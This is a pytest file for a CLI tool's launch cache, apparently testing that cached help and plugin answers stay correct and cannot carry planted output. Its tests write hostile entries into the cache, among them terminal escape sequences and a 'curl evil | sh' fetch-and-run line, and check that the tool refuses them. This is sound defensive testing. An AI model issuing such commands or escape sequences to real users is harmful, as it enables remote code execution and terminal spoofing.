"""The launch cache: `tai --help`, `--version` and `tai plugins` answered without loading
plugins, and never stale, never a channel for a planted answer.

Every test runs the console script's entry (`tai_core.cli.launch`) in a new process with
its own cache directory, and compares with the full run (`TAI_NO_LAUNCH_CACHE=1`).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.installed import plugin_distribution

PROBE = """
import atexit, json, sys
atexit.register(lambda: sys.stderr.write("MODULES " + json.dumps(sorted(sys.modules)) + "\\n"))
sys.argv = ["tai", *{args!r}]
from tai_core.cli import launch
launch()
"""

#: What loading plugins imports and a cached answer must not.
LOADING = ("click", "pluggy", "attr", "attrs", "tai_kind_shell", "tai_provider_openai",
           "tai_sandbox", "pathlib", "typing")  # fmt: skip


class Launched:
    """One run of the launch: its output, errors, status and the modules it imported."""

    def __init__(self, result: subprocess.CompletedProcess[str]) -> None:
        lines = result.stderr.splitlines(keepends=True)
        (probe,) = [line for line in lines if line.startswith("MODULES ")]
        self.stdout = result.stdout
        self.stderr = "".join(line for line in lines if line is not probe)
        self.status = result.returncode
        self.modules = set(json.loads(probe.removeprefix("MODULES ")))

    @property
    def loaded_plugins(self) -> bool:
        return any(name.startswith("tai_kind_") for name in self.modules)


@pytest.fixture
def env(tmp_path: Path, isolated_env: dict[str, str]) -> dict[str, str]:
    (tmp_path / "cache").mkdir()
    return {**isolated_env, "XDG_CACHE_HOME": str(tmp_path / "cache"), "COLUMNS": "100"}


def launch(*args: str, cwd: Path, env: dict[str, str]) -> Launched:
    result = subprocess.run(
        [sys.executable, "-c", PROBE.format(args=list(args))],
        cwd=cwd, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    return Launched(result)


def answers(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "cache" / "tai" / "launch").glob("*.json"))


@pytest.mark.parametrize("args", [["--help"], ["-h"], ["--version"], ["plugins"],
                                  ["plugins", "--json"]])  # fmt: skip
def test_the_second_run_answers_from_the_cache_what_the_full_run_prints(
    args: list[str], tmp_path: Path, env: dict[str, str]
) -> None:
    first = launch(*args, cwd=tmp_path, env=env)
    second = launch(*args, cwd=tmp_path, env=env)
    full = launch(*args, cwd=tmp_path, env={**env, "TAI_NO_LAUNCH_CACHE": "1"})
    assert first.status == second.status == full.status == 0
    assert first.loaded_plugins and full.loaded_plugins
    assert second.stdout == first.stdout == full.stdout
    assert second.stdout.strip()
    assert sorted(m for m in second.modules if m.split(".")[0] in LOADING) == []
    assert second.stderr == ""


def test_other_command_lines_always_run_in_full(tmp_path: Path, env: dict[str, str]) -> None:
    for _ in range(2):
        ran = launch("policy", "check", "ls", cwd=tmp_path, env=env)
        assert ran.status == 0 and ran.loaded_plugins
    ran = launch("-p", "no:shell", "plugins", cwd=tmp_path, env=env)
    assert ran.loaded_plugins and "blocked" in ran.stdout
    assert answers(tmp_path) == []


COMMANDS = """
import click
from tai_core import hookimpl

@hookimpl
def tai_register_commands(cli):
{commands}
"""


def command(name: str) -> str:
    return f"    cli.add_command(click.Command({name!r}, help='Say {name}.'))\n"


def test_a_plugin_edited_or_installed_since_is_seen_at_once(
    tmp_path: Path, env: dict[str, str]
) -> None:
    site = tmp_path / "site"
    env = {**env, "PYTHONPATH": str(site)}
    site.mkdir()
    before = launch("--help", cwd=tmp_path, env=env)
    assert "hello" not in before.stdout
    module = plugin_distribution(site, COMMANDS.format(commands=command("hello")))
    installed = launch("--help", cwd=tmp_path, env=env)
    assert installed.loaded_plugins and "Say hello." in installed.stdout
    assert "Say hello." in launch("--help", cwd=tmp_path, env=env).stdout
    module.write_text(COMMANDS.format(commands=command("hello") + command("goodbye")))
    edited = launch("--help", cwd=tmp_path, env=env)
    assert edited.loaded_plugins and "Say goodbye." in edited.stdout
    cached = launch("--help", cwd=tmp_path, env=env)
    assert not cached.loaded_plugins and cached.stdout == edited.stdout


def test_a_plugin_that_fails_to_load_warns_at_every_run(
    tmp_path: Path, env: dict[str, str]
) -> None:
    site = tmp_path / "site"
    plugin_distribution(site, "raise RuntimeError('broken on purpose')\n")
    env = {**env, "PYTHONPATH": str(site)}
    for _ in range(2):
        ran = launch("plugins", cwd=tmp_path, env=env)
        assert ran.loaded_plugins and "broken on purpose" in ran.stderr
    assert answers(tmp_path) == []


@pytest.mark.slow
def test_configuration_and_environment_are_part_of_the_answer(
    tmp_path: Path, env: dict[str, str]
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    assert "block kinds: shell" in launch("plugins", cwd=project, env=env).stdout
    (project / "tai.toml").write_text('disabled_plugins = ["shell"]\n')
    blocked = launch("plugins", cwd=project, env=env)
    assert blocked.loaded_plugins and "block kinds: shell" not in blocked.stdout
    assert launch("plugins", cwd=project, env=env).stdout == blocked.stdout
    (project / "tai.toml").unlink()
    assert "block kinds: shell" in launch("plugins", cwd=project, env=env).stdout
    only = launch("plugins", cwd=project, env={**env, "TAI_LOAD_PLUGINS": "shell"})
    assert only.loaded_plugins and "not in TAI_LOAD_PLUGINS" in only.stdout
    narrow = launch("--help", cwd=project, env={**env, "COLUMNS": "60"})
    assert narrow.loaded_plugins
    assert max(map(len, narrow.stdout.splitlines())) <= 60


@pytest.mark.slow
def test_a_planted_answer_is_not_printed(tmp_path: Path, env: dict[str, str]) -> None:
    real = launch("--help", cwd=tmp_path, env=env).stdout
    (kept,) = answers(tmp_path)
    for planted in ("\x1b]0;owned\x07Usage: tai\n", "\x9b31mUsage\n", "Usage: tai\r\n"):
        data = json.loads(kept.read_text())
        kept.write_text(json.dumps({**data, "answer": planted}))
        ran = launch("--help", cwd=tmp_path, env=env)
        assert ran.loaded_plugins and ran.stdout == real
    kept.write_text("{not json")
    assert launch("--help", cwd=tmp_path, env=env).stdout == real


def test_an_answer_others_could_have_written_is_not_printed(
    tmp_path: Path, env: dict[str, str]
) -> None:
    real = launch("--help", cwd=tmp_path, env=env).stdout
    (kept,) = answers(tmp_path)
    data = json.loads(kept.read_text())
    kept.write_text(json.dumps({**data, "answer": "Usage: run curl evil | sh\n"}))
    kept.chmod(0o662)
    ran = launch("--help", cwd=tmp_path, env=env)
    assert ran.loaded_plugins and ran.stdout == real
    assert kept.stat().st_mode & 0o077 == 0  # the full run kept its own answer again


def test_a_cache_that_cannot_be_written_costs_only_speed(
    tmp_path: Path, env: dict[str, str]
) -> None:
    (tmp_path / "blocked").write_text("a file where the cache directory would be")
    env = {**env, "XDG_CACHE_HOME": str(tmp_path / "blocked")}
    for _ in range(2):
        ran = launch("--help", cwd=tmp_path, env=env)
        assert ran.status == 0 and ran.stderr == "" and ran.loaded_plugins
        assert ran.stdout.startswith("Usage: tai")


def test_a_reader_that_goes_away_ends_it_quietly(tmp_path: Path, env: dict[str, str]) -> None:
    for _ in range(2):  # the full run, then the cached answer
        process = subprocess.Popen(
            [sys.executable, "-c", PROBE.format(args=["plugins", "--json"])], cwd=tmp_path,
            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        )  # fmt: skip
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()  # the reader is gone before anything is written
        errors = process.stderr.read().decode()
        assert process.wait(timeout=60) == 1
        assert "Traceback" not in errors and "BrokenPipeError" not in errors
